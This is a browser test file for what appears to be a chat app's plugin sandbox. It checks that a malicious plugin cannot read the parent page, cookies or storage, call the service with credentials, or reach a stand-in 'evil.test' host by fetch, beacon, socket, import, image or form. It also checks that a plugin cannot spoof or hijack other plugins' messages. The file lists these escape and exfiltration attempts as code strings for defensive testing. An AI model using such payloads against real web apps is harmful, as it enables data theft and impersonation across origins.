import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { hasBrowser, openBrowser } from '../../harness/ui.ts'
import {
  button,
  conversation,
  counting,
  drawing,
  type Opened,
  type PlacedPlugins,
  placedPlugins,
} from './placed-plugins.ts'

/**
 * What a plugin tries against the page, the service and other plugins. Each attempt throws or never resolves where it
 * is refused.
 */
const attempts: Record<string, string> = {
  'reads the page': 'parent.document.title',
  'writes the page': "parent.document.body.append('x')",
  'leads the page away': "(top.location.href = 'EVIL/')",
  'reads cookies': 'document.cookie',
  'writes cookies': "(document.cookie = 'a=b')",
  'reads what the page keeps': 'localStorage.length',
  'reads databases': "new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no })",
  'opens caches': "caches.open('x')",
  'asks the service': "fetch(new URL('/api/v1/conversations', import.meta.url))",
  'asks the service with the cookie':
    "fetch(new URL('/api/v1/conversations', import.meta.url), { credentials: 'include', mode: 'no-cors' })",
  'asks another server': "fetch('EVIL/', { mode: 'no-cors' })",
  'sends a beacon': "(navigator.sendBeacon('EVIL/', 'x'), refused())",
  'opens a socket': "new Promise((yes, no) => { const s = new WebSocket('EVIL/'); s.onopen = yes; s.onerror = no })",
  'opens a stream':
    "new Promise((yes, no) => { const s = new EventSource('/api/v1/events'); s.onopen = yes; s.onerror = no })",
  'connects past the policy': 'new RTCPeerConnection()',
  'loads code from elsewhere': "import('EVIL/x.js')",
  'makes code of text': "eval('1')",
  'opens a window': "open('EVIL/') ?? refused()",
  'shows a picture from elsewhere':
    "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = 'EVIL/x.png' })",
  'submits a form': `new Promise((yes) => {
    const form = document.createElement('form')
    Object.assign(form, { action: 'EVIL/', method: 'post', target: '_blank' })
    document.body.append(form)
    form.submit()
  })`,
  'frames the service': `new Promise((yes, no) => {
    const frame = document.createElement('iframe')
    frame.src = '/app/'
    frame.onload = () => { try { yes(frame.contentWindow.document.title) } catch {} }
    document.body.append(frame)
    frame.contentWindow.document.title
  })`,
  'reads another plugin': 'parent.frames[0].document.title',
  'speaks as another plugin': `new Promise(() => {
    for (const type of ['ready', 'failed', 'call', 'hello'])
      parent.postMessage({ type, plugin: 'good', slots: [], views: [], slot: null, reason: 'spoofed' }, '*')
  })`,
  'takes the port of another plugin': `new Promise((yes) => {
    for (let n = 0; n < parent.frames.length; n++) {
      const { port1, port2 } = new MessageChannel()
      port2.onmessage = yes
      parent.frames[n].postMessage({ type: 'hello', version: 1, surroundings: {}, view: null }, '*', [port1])
    }
  })`,
}
const asksTheHost: Record<string, string> = {
  'reads a message without the permission': 'host.getMessage(1)',
  'sends by its own will': "host.sendText('x', 'x')",
}

/** Runs each attempt, and counts it as refused after a second. */
const trying = `
const refused = () => { throw new Error('refused') }
const names = []
const tried = (name, attempt) => Promise.race([
  new Promise((resolve) => setTimeout(resolve, 1_000)),
  Promise.resolve().then(attempt).then(() => names.push(name), () => {}),
])
const all = (host) => Promise.all([
${Object.entries(attempts)
  .map(([name, code]) => `  tried(${JSON.stringify(name)}, async () => ${code}),`)
  .join('\n')}
${Object.entries(asksTheHost)
  .map(([name, code]) => `  tried(${JSON.stringify(name)}, async () => ${code}),`)
  .join('\n')}
]).then(() => { host.insertText('spoofed'); return 'Done: ' + names.join(', ') + '.' })
`

describe.skipIf(!hasBrowser)('a plugin that means harm', () => {
  let [browser, placed, elsewhere] = [] as unknown as [Browser, PlacedPlugins, Server]
  /** Requests that reached another server. */
  const arrived: string[] = []
  beforeAll(async () => {
    browser = await openBrowser()
    elsewhere = createServer(({ url = '' }, response) => {
      arrived.push(url)
      response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript').end('1')
    })
    await once(elsewhere.listen(0, '127.0.0.1'), 'listening')
    const evil = `http://evil.test:${(elsewhere.address() as AddressInfo).port}`
    const at = (code: string) => drawing(code.replaceAll('EVIL', evil))
    placed = await placedPlugins({
      good: { code: counting },
      tree: {
        code: at(`${trying}\nregisterSlot('compose.extension', async ({ ui, host }) => ui.text(await all(host)))`),
      },
      view: {
        code: at(
          `${trying}\nregisterView('sidebar.panel', async (element, { host }) => { element.textContent = await all(host) })`,
        ),
        slots: ['sidebar.panel'],
      },
      leaver: {
        code: at(`registerView('sidebar.panel', () => { location.href = 'EVIL/?text' })`),
        slots: ['sidebar.panel'],
      },
      reader: { code: button("'Peek'", 'async () => { await host.getMessage(1) }') },
    })
  })
  afterAll(async () => {
    await browser?.close()
    await placed?.web[Symbol.asyncDispose]()
    elsewhere?.close()
  })

  const doneBy = async ({ page }: Opened, name: string): Promise<string> => {
    const said =
      name === 'tree'
        ? page.getByText('Done: ')
        : page.frameLocator('[title="Plugin: view"]').first().getByText('Done: ')
    return (await said.textContent()) ?? ''
  }

  test.each(['tree', 'view'])('gains nothing as a %s, whatever it tries', async (name) => {
    await using opened = await placed.open({ browser, on: ['good', name] })
    const { page } = opened
    const done = await doneBy(opened, name)
    for (const attempt of [...Object.keys(attempts), ...Object.keys(asksTheHost)])
      expect.soft(done, attempt).not.toContain(attempt)
    expect(page.url()).toBe(`${placed.web.url}${conversation}`)
    expect(page.context().pages()).toHaveLength(1)
    expect(arrived).toEqual([])
    expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('')
    await page.getByRole('button', { name: 'Good 0' }).click()
    await page.getByRole('button', { name: 'Good 1' }).waitFor()
  })

  test('a plugin that navigates its own frame away is removed from the page, and no request was made', async () => {
    await using opened = await placed.open({ browser, on: ['leaver'] })
    await opened.page.getByRole('status').filter({ hasText: 'leaver stopped' }).waitFor()
    expect(arrived).toEqual([])
  })

  test('a plugin that makes forbidden calls is stopped if it ignores the refusal', async () => {
    await using opened = await placed.open({ browser, on: ['reader'] })
    await opened.page.getByRole('button', { name: 'Peek' }).click()
    await opened.page.getByRole('status').filter({ hasText: 'reader stopped' }).waitFor()
  })
})
